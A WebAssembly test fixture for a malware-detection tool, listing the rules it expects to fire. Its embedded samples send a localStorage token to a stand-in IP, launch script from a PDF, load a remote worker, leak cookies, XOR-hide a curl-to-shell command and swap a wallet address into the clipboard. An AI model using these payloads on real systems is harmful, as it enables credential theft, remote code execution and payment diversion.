;; RUN: spoor trace % --json
;; WHAT: Leaves things for its host: a script that sends a token, a document with script, a page in memory, a
;;   command letter by letter, a hidden wallet in the clipboard.
;; EXPECT: rule=impact/clipper rule=browser/storage rule=browser/page rule=load-code/script
(module
  (import "env" "putchar" (func $putchar (param i32)))
  (import "localStorage" "clear" (func $clear))
  (import "location" "assign" (func $assign (param i32 i32)))
  (import "importScripts" "importScripts" (func $load (param i32 i32)))
  (import "wbg" "__wbindgen_string_new" (func $string (param i32 i32) (result i32)))
  (import "wbg" "__wbg_get_0123456789abcdef" (func $get (param i32 i32) (result i32)))
  (import "wbg" "__wbg_set_0123456789abcdef" (func $set (param i32 i32 i32) (result i32)))
  (import "wbg" "__wbg_writeText_0123456789abcdef" (func $write_text (param i32 i32 i32) (result i32)))
  (memory (export "memory") 2)
  (global $view (export "view") (mut i32) (i32.const 0))
  (data (i32.const 1024) "var s=new XMLHttpRequest;s.open(\22POST\22,\22//203.0.113.9/c\22);s.send(localStorage.getItem(\22token\22))\00")
  (data (i32.const 1280) "%PDF-1.4\0a1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL(1))>>>>endobj\00")
  (data (i32.const 1536) "https://203.0.113.9/sw.js")
  (data (i32.const 1600) "cookie")
  (data (i32.const 1616) "src")
  (data (i32.const 2048)
    "\69\3d\21\38\39\6b\69\37\3a\31\2c\75\3a\3b\39\3a\34\31\68\77\32\3a\7d\7c\77\6b\69\26\36\27\3c\25\21\6b\33\30\21\36\3d\7d\77\3d\21\21\25\26\6f\7a\7a\67\65\66"
    "\7b\65\7b\64\64\66\7b\6c\7a\6a\77\7e\31\3a\36\20\38\30\3b\21\7b\36\3a\3a\3e\3c\30\7c\69\7a\26\36\27\3c\25\21\6b\69\7a\37\3a\31\2c\6b\69\7a\3d\21\38\39\6b")
  (data (i32.const 2560) "\36\20\27\39\75\78\26\75\3d\21\21\25\26\6f\7a\7a\67\65\66\7b\65\7b\64\64\66\7b\6c\7a\34\75\29\75\26\3d\75\78\26\75\3b\3a\22")
  (data (i32.const 2816) "\37\36\64\24\34\27\65\26\27\27\27\62\2d\33\3e\23\2c\60\39\63\61\66\39\2c\31\3b\22\6c\27\30\60\6c\32\21\2f\2f\22\33\60\38\31\24")
  (func $decode (param $from i32) (param $len i32) (param $to i32) (local $i i32)
    (loop $byte
      (i32.store8 (i32.add (local.get $to) (local.get $i))
        (i32.xor (i32.load8_u (i32.add (local.get $from) (local.get $i))) (i32.const 0x55)))
      (br_if $byte (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
  (func (export "token") (result i32) (i32.const 1024))
  (func (export "invoice") (result i32 i32) (i32.const 1280) (i32.const 75))
  (func (export "render")
    (call $decode (i32.const 2048) (i32.const 103) (i32.const 8192))
    (global.set $view (i32.const 8192)))
  (func (export "say") (local $i i32)
    (loop $letter
      (call $putchar (i32.xor (i32.load8_u offset=2560 (local.get $i)) (i32.const 0x55)))
      (br_if $letter
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 41)))))
  (func (export "main")
    (call $clear)
    (call $load (i32.const 1536) (i32.const 25))
    (call $assign (i32.const 1536) (i32.const 25))
    (drop (call $set (i32.const 1) (call $string (i32.const 1616) (i32.const 3))
      (call $get (i32.const 1) (call $string (i32.const 1600) (i32.const 6)))))
    (call $decode (i32.const 2816) (i32.const 42) (i32.const 12288))
    (drop (call $write_text (i32.const 1) (i32.const 12288) (i32.const 42)))))
